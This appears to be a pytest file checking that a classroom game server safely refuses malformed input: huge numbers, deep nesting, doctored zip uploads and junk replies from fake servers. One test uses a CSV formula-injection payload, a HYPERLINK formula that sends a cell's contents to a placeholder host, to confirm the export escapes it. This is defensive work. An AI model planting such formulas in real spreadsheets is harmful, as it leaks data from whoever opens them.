"""What reaches the class server from a laptop, and a laptop from what answers at the server's
address, is untrusted: each malformed message is refused in a line and nothing of it is kept or
acted on (found by a red team, each of these was a traceback, a crash of every group's window or
a formula in the teacher's spreadsheet)."""

from __future__ import annotations

import io
import json
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from starlette.testclient import TestClient

from game.server.app import ClassSession, create_app
from game.server.auth import TeacherAuth
from game.server.store import Store

PASSPHRASE = "owls at dawn"
CODE = "K7QMPA"


@pytest.fixture
def server(tmp_path, testing_event):
    store = Store(tmp_path)
    config = {"level": "testing_event", "seed": 3, "sides": {"moscow": "team", "beijing": "normal"}}
    session = ClassSession(
        config, [{"id": e.id, "title": e.title} for e in testing_event.events], 12, CODE, tmp_path
    )
    with TestClient(
        create_app(store, session, TeacherAuth(TeacherAuth.hash(PASSPHRASE), "secret"))
    ) as client:
        yield client, tmp_path


def token_of(client, group="Red"):
    answer = client.post("/api/join", json={"class_code": CODE, "group": group, "client_id": group})
    return {"Authorization": f"Bearer {answer.json()['token']}"}


def test_numbers_too_large_for_the_servers_store_are_refused_not_a_server_error(server):
    client, _ = server
    red = token_of(client)
    turn = {"turn": 1, "level": "testing_event", "acked": 2**63}
    answer = client.post("/api/turn", json=turn, headers=red)
    assert answer.status_code == 400 and "acked" in answer.json()["error"]
    assert client.get("/api/commands?after=" + "9" * 30, headers=red).status_code == 200
    client.post("/api/login", json={"passphrase": PASSPHRASE})
    for turn in ("Infinity", 10**30, "1e3", 13, 0, True, "9" * 5000):
        sent = client.post(
            "/api/inject",
            content=json.dumps({"event": "oil_price_cap", "turn": turn}).replace('"Infinity"', "Infinity"),
            headers={"Content-Type": "application/json"},
        )
        assert sent.status_code == 400, turn
    assert client.post("/api/inject", json={"event": "oil_price_cap", "turn": "12"}).status_code == 200


def test_a_turn_whose_plans_nest_too_deeply_is_refused_in_a_line(server):
    client, _ = server
    deep: object = "m_border_talks"
    for _ in range(900):
        deep = [deep]
    answer = client.post("/api/turn", json={"turn": 1, "plans": {"moscow": deep}}, headers=token_of(client))
    assert answer.status_code == 400 and "nests" in answer.json()["error"]


def zipped(entries, compression=zipfile.ZIP_STORED) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", compression) as z:
        for name, content in entries:
            z.writestr(name, content)
    return packed.getvalue()


def test_exports_in_a_zip_the_game_did_not_write_are_refused_and_none_of_it_kept(server):
    client, data = server
    red = token_of(client)
    odd = bytearray(zipped([("session.json", "{}"), ("replay.json", "{}")]))
    # The second entry's compression method, in its local header and its central directory
    # entry, set to one zipfile cannot undo.
    second = odd.find(b"PK\x03\x04", 4)
    odd[second + 8 : second + 10] = (99).to_bytes(2, "little")
    central = odd.find(b"PK\x01\x02", odd.find(b"PK\x01\x02") + 4)
    odd[central + 10 : central + 12] = (99).to_bytes(2, "little")
    answer = client.post("/api/exports", content=bytes(odd), headers=red)
    assert answer.status_code == 400 and "zip" in answer.json()["error"]
    assert not (data / "exports").exists() or not any((data / "exports").rglob("*.json"))
    # An entry marked encrypted (which zipfile cannot read without a password) likewise.
    locked = bytearray(zipped([("session.json", "{}")]))
    locked[6] |= 1  # the local header's flags
    central = locked.find(b"PK\x01\x02")
    locked[central + 8] |= 1  # and the central directory's
    answer = client.post("/api/exports", content=bytes(locked), headers=red)
    assert answer.status_code == 400 and "zip" in answer.json()["error"]
    long_name = zipped([("x" * 300 + ".json", "{}"), ("session.json", "{}")])
    assert client.post("/api/exports", content=long_name, headers=red).status_code == 200
    assert [p.name for p in (data / "exports").rglob("*.json")] == ["session.json"]


def test_the_teachers_spreadsheet_holds_no_formula_a_group_or_a_reason_typed(server):
    client, _ = server
    token_of(client, '=HYPERLINK("http://example.invalid/?"&A1,"click")')
    client.post("/api/login", json={"passphrase": PASSPHRASE})
    assert (
        client.post(
            "/api/pause", json={"group": '=HYPERLINK("http://example.invalid/?"&A1,"click")'}
        ).status_code
        == 200
    )
    assert client.post("/api/end", json={"reason": "@SUM(1+1)\x07 bye"}).status_code == 200
    with zipfile.ZipFile(io.BytesIO(client.get("/exports.zip").content)) as z:
        table = z.read("teacher-acts.csv").decode("utf-8-sig").splitlines()
    assert ",\"'=HYPERLINK(" in table[1]
    assert table[2].endswith(",End,every group,'@SUM(1+1) bye")


def test_a_teachers_end_with_a_control_character_ends_the_groups_game_without_a_crash(testing_event):
    from game.classroom.session import ClassroomSession
    from game.session.game import Game

    game = Game.new(testing_event, 1, {"moscow": "easy", "beijing": "easy"})
    session = ClassroomSession.start(game, {"moscow": "team", "beijing": "easy"}, "local", 0, "Red")

    class Link:
        """The class server's link, as the dashboard's End reaches it."""

        after = 0

        def __init__(self):
            self.inbox = [{"id": 1, "kind": "end", "reason": "bye\x07\x85 now"}]

        def take_commands(self):
            taken, self.inbox = self.inbox, []
            return taken

        def send_turn(self, message):
            pass

    session.link = Link()
    session.sync()
    assert game.over and "bye now" in json.dumps(game.log.model_dump(mode="json"))


class FakeServer(BaseHTTPRequestHandler):
    answer = b"{}"

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(200)
        self.send_header("Content-Type", "application/json")
        self.end_headers()
        self.wfile.write(self.answer)

    do_GET = do_POST

    def log_message(self, *args):
        pass


@pytest.mark.slow
@pytest.mark.parametrize(
    "answer",
    [
        b"{}",
        b"[1, 2]",
        b'{"token": "t", "group": "g", "session": {}, "acked": "zz"}',
        b"[" * 100_000,
        b"nope",
    ],
    ids=["empty", "list", "bad-acked", "deep", "not-json"],
)
def test_a_laptop_told_a_wrong_address_says_so_in_a_line(tmp_path, answer):
    from game.server.client import NOT_A_CLASS_SERVER, JoinRefused, Unreachable, join_class

    handler = type("Fake", (FakeServer,), {"answer": answer})
    fake = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=fake.serve_forever, daemon=True).start()
    try:
        with pytest.raises((JoinRefused, Unreachable)) as refused:
            join_class(f"http://127.0.0.1:{fake.server_address[1]}", CODE, "Red", data=tmp_path)
        assert str(refused.value) == NOT_A_CLASS_SERVER
    finally:
        fake.shutdown()


@pytest.mark.slow
def test_a_set_up_with_a_field_a_later_version_adds_still_joins(tmp_path):
    # A pack file refuses a key it does not know (a typo); the server's answer passes it over.
    from game.server.client import join_class

    answer = {
        "token": "t0k3n",
        "group": "Red",
        "session": {"level": "testing_event", "seed": 3, "added_later": True},
    }
    handler = type("Fake", (FakeServer,), {"answer": json.dumps(answer).encode()})
    fake = ThreadingHTTPServer(("127.0.0.1", 0), handler)
    threading.Thread(target=fake.serve_forever, daemon=True).start()
    try:
        link, joined = join_class(f"http://127.0.0.1:{fake.server_address[1]}", CODE, "Red", data=tmp_path)
        assert joined.session["level"] == "testing_event" and "added_later" not in joined.session
        link.close(1)
    finally:
        fake.shutdown()


@pytest.mark.parametrize(
    "turn, left", [("", ""), ("2", "nan"), ("2", "inf"), ("0", "10"), ("2", "-1"), ("2", "1e9"), ("x", "3")]
)
def test_a_poll_that_tells_no_planning_time_in_range_tells_none(turn, left):
    from game.server.app import planning_told

    assert planning_told(turn, left) is None
    assert planning_told("2", "179.5") == (2, 179.5)
